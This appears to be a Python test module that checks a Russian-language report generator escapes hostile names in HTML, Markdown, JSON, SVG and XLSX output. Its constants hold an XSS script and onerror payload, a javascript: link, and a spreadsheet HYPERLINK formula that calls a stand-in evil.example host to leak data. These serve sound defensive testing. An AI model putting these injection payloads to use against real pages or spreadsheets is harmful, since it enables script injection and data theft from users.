"""Hostile text from a configuration or the store stays text in every medium."""

from __future__ import annotations

import json
import re

import pytest

from efs.report import build_report, render_text, write_report

from .conftest import YEAR

SCRIPT = '<script>document.title="pwned"</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak","жми")'
MARKDOWN = "| **жирный** | [ссылка](javascript:alert(1)) `код` # заголовок"
PLUS = "+7 (999) 000-00-00"
URLS = "сайт https://evil.example/x?a=1, www.evil.example, почта a_b@evil.example и mailto:c@d.ru"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, registry):
    """Амурская конфигурация with hostile names, and a store whose municipality names are hostile too."""
    import sqlalchemy as sa

    from efs.data import schema as S
    from efs.data.store import open_store
    from efs.loading import load_configuration
    from efs.synthesis import synthesize
    from tests.conftest import CONFIG_DIR

    config = load_configuration(CONFIG_DIR / "amur.yaml", registry=registry)
    config.jurisdiction.name = SCRIPT
    config.subjects[0].name = SCRIPT
    config.subjects[0].short_name = FORMULA
    config.subjects[1].short_name = MARKDOWN
    config.subjects[2].short_name = URLS
    config.subjects[2].name = URLS
    config.indicators[0].text = FORMULA
    config.indicators[1].text = MARKDOWN
    config.roadmap[0].text = PLUS
    store = open_store(tmp_path_factory.mktemp("hostile") / "h.sqlite")
    synthesize(store, config, staff=300, year=YEAR, seed=2)
    names = [SCRIPT, FORMULA, MARKDOWN]
    with store.engine.begin() as conn:
        ids = [r.id for r in conn.execute(sa.select(S.municipalities.c.id).order_by(S.municipalities.c.id))]
        for mid, name in zip(ids, names, strict=False):
            conn.execute(sa.update(S.municipalities).where(S.municipalities.c.id == mid).values(name=name))
    report = build_report(config, store, year=YEAR, registry=registry)
    store.close()
    return report


def test_html_keeps_script_and_markup_as_text(hostile):
    html = render_text(hostile, "html")
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()
    import html as html_lib

    assert f"<h1>{html_lib.escape(f'Аналитическая справка: {SCRIPT}, {YEAR} год')}</h1>".replace(
        "&quot;", "&#34;").replace("&#x27;", "&#39;") in html
    title = re.search(r"<title>(.*?)</title>", html, re.S)
    assert title and "<" not in title.group(1)


def test_xlsx_never_holds_a_formula(hostile, tmp_path):
    from openpyxl import load_workbook

    wb = load_workbook(write_report(hostile, tmp_path / "h.xlsx"))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+")):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    seen.add(cell.value)
    assert FORMULA in seen and PLUS in seen


def test_xlsx_zip_has_no_formula_element(hostile, tmp_path):
    import zipfile

    path = write_report(hostile, tmp_path / "h.xlsx")
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name), name


def test_markdown_escapes_markup_and_keeps_tables_aligned(hostile):
    md = render_text(hostile, "md")
    assert "<script" not in md and "<img" not in md
    assert "](javascript:" not in md
    assert "\\| \\*\\*жирный\\*\\*" in md
    for block in re.findall(r"((?:^\|.*\|\n)+)", md, re.M):
        lines = block.splitlines()
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in lines}
        assert len(widths) == 1, f"таблица разъехалась:\n{block[:500]}"


def test_json_round_trips_the_text_exactly(hostile):
    data = json.loads(render_text(hostile, "json"))
    assert data["jurisdiction"]["name"] == SCRIPT
    texts = {i["text"] for i in data["indicators"]["items"]}
    assert FORMULA in texts and MARKDOWN in texts
    scopes = {d["scope_name"] for i in data["indicators"]["items"] for d in i["drilldown"]}
    assert {SCRIPT, FORMULA, MARKDOWN} <= scopes


def test_svg_diagram_escapes_names(hostile):
    from efs.report.svg import structure_diagram

    svg = structure_diagram(hostile["structure"])
    assert "<script" not in svg and "&lt;script&gt;" in svg


def test_markdown_addresses_in_names_are_shown_not_linked(hostile):
    """Rendered by GitHub's own renderer (cmark-gfm with its autolink extension): no link at all."""
    import cmarkgfm

    shown = cmarkgfm.github_flavored_markdown_to_html(render_text(hostile, "md"))
    assert "<a " not in shown
    assert "https://evil.example/x?a=1" in shown and "a_b@evil.example" in shown and "www.evil.example" in shown
